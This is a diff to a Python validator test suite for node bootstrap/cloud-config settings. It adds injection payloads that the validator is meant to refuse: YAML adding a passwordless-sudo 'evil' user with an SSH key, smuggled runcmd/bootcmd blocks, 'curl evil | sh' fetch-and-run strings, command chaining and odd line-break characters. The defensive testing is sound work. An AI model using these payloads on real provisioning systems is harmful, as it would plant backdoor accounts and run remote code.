@@ -410,6 +410,54 @@ def _timezone(p, site, stack, profile, base, v):
     return base, _edit(p, base, lambda d: _set(d["bootstrap"], "timezone", v)), "bootstrap.timezone"
 
 
+# injection payloads (issue 17): every free-text field that reaches a node's user data, given a value that would
+# add lines, keys, users or shell of its own; each must be refused at its key.
+SUDO = "users:\n  - {name: evil, sudo: 'ALL=(ALL) NOPASSWD:ALL', ssh_authorized_keys: [ssh-ed25519 AAAAevil]}"
+INJECTIONS = [
+    f"-w /etc/passwd -p wa -k identity\n{SUDO}",       # a newline adds lines of its own
+    "-w /etc/passwd -p wa -k identity\n- -w /tmp",      # a YAML list item breaks out
+    "-w /etc/passwd -p wa\n#cloud-config\nruncmd: [[sh, -c, id]]",  # a second cloud-config smuggled in
+    "-w /etc/passwd -p wa -k x\r\nbootcmd: [id]",      # CR LF
+    "-w /etc/passwd -p wa -k x\u2028users: [evil]",     # a YAML 1.1 line break that is not \n
+    "-w /etc/passwd -p wa -k x\x85users: [evil]",
+    "-w /etc/passwd -p wa -k x\x00",                    # a NUL
+    "-w /etc/passwd -p wa -k x\t-e 0",                  # a tab
+    "-w /etc/passwd -p wa -k $(curl evil|sh)",          # shell
+    "-w /etc/passwd -p wa -k x -e 0",                   # a second rule on one line
+    "-D",                                               # not a rule
+    "-w /etc/passwd -p wa -k " + "x" * 5000,            # very long
+]
+
+
+def _audit_rule(p, site, stack, profile, base, v):
+    return stack, _stack_edit(p, site, lambda c: _overrides(c, {"bootstrap": {"audit": {"groups": [
+        {"name": "identity", "rules": [v], "basis": "test"}]}}})), "bootstrap.audit.groups.identity.rules.0"
+
+
+def _check_command(p, site, stack, profile, base, v):
+    return base, _edit(p, base, lambda d: _set(d["bootstrap"]["healthChecks"][0], "command", v)), \
+        "bootstrap.healthChecks.gpu.command"
+
+
+def _check_output(p, site, stack, profile, base, v):
+    return base, _edit(p, base, lambda d: _set(d["bootstrap"]["healthChecks"][1], "unhealthyOutput", v)), \
+        "bootstrap.healthChecks.rdma.unhealthyOutput"
+
+
+def _time_server(p, site, stack, profile, base, v):
+    return stack, _stack_edit(p, site, lambda c: _overrides(c, {"bootstrap": {"timeServers": [v]}})), \
+        "bootstrap.timeServers.0"
+
+
+def _agent_unit(p, site, stack, profile, base, v):
+    return base, _edit(p, base, lambda d: _set(d["bootstrap"]["agents"][0], "unit", v)), "bootstrap.agents.dcgm.unit"
+
+
+def _collector_host(p, site, stack, profile, base, v):
+    tree = {"bootstrap": {"logging": {"forward": "syslog-tls", "collector": f"{v}:6514"}}}
+    return stack, _stack_edit(p, site, lambda c: _overrides(c, tree)), "bootstrap.logging.collector"
+
+
 def _throughput(p, site, stack, profile, base, v):
     return base, _edit(p, base, lambda d: _set(d["storage"]["fileSystems"][0], "throughputGbps", v)), \
         "storage.fileSystems.checkpoints.throughputGbps"
@@ -598,7 +646,17 @@ RULES: list[tuple[str, Callable, list]] = [
     ("profile-code", _profile_code, ["zz", "usa"]),
     ("site-sets-code", _site_sets_code, ["us", "zz"]),
     ("lock-unknown-key", _lock_unknown, ["jurisdiction.vualt", "network.nsgz", "site.region.x", "nothing"]),
-    ("timezone", _timezone, ["Mars/Olympus", "Europe/Berlinn", "utc", "posixrules"]),
+    ("timezone", _timezone, ["Mars/Olympus", "Europe/Berlinn", "utc", "posixrules", "UTC\nusers: [evil]",
+                             "UTC\n- x", "Europe/Berlin #cloud-config"]),
+    ("audit-rule-injection", _audit_rule, INJECTIONS),
+    ("command-injection", _check_command, [
+        "dcgmi diag --run 1; curl evil | sh", "$(curl evil)", ["$(curl evil)"], ["dcgmi; id"], ["dcgmi", "a\nb"],
+        ["dcgmi", "x\u2028users: [evil]"], ["dcgmi", "\x00"], ["dcgmi", "x" * 5000], [], ["-x"], [True]]),
+    ("output-injection", _check_output, INJECTIONS[:8] + ["x" * 5000, ""]),
+    ("time-server-injection", _time_server, [f"169.254.169.254\n{SUDO}", "ntp.example.org\n- evil", "a b",
+                                             "$(id)", "-x", "#cloud-config", "x" * 300]),
+    ("agent-unit-injection", _agent_unit, ["nvidia-dcgm.service\nruncmd: [[id]]", "x.service; id", "$(id).service"]),
+    ("collector-injection", _collector_host, ["logs.example.org\nusers: [evil]", 'logs" target="evil', "a b"]),
     ("throughput-bound", _throughput, [10**400, 1001, 0]),
     ("org-space", _org_space, ["0.0.0.0/0", "8.8.0.0/16", "10.0.0.0/7"]),
     ("residency-region", _residency_region, ["xx-nowhere-1", "us-ashburn-9"]),
